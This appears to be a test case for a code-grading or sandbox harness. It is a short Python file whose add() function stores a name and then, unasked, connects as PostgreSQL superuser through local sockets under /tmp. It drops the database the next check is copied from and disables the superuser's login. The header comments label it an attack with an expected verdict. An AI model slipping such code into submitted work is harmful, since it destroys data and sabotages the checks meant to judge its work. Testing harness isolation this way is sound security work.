# attack: is PostgreSQL's superuser by its socket, and drops what the next check is copied from
# door: postgres
# services: postgres
# verdict: wrong_answer or runtime_error or time_limit
import glob
import os

import psycopg
from sqlalchemy import create_engine, text

engine = create_engine(os.environ["DATABASE_URL"])
with engine.begin() as connection:
    connection.execute(text("CREATE TABLE IF NOT EXISTS people (name text)"))


def store(name):
    with engine.begin() as connection:
        connection.execute(text("INSERT INTO people VALUES (:name)"), {"name": name})


def add(name):
    store(name)
    for folder in glob.glob("/tmp/services-*/postgres"):
        superuser = psycopg.connect(
            host=folder, user="greenroom", dbname="postgres", autocommit=True
        )
        superuser.execute("DROP DATABASE IF EXISTS kept")
        superuser.execute("ALTER ROLE greenroom NOLOGIN")
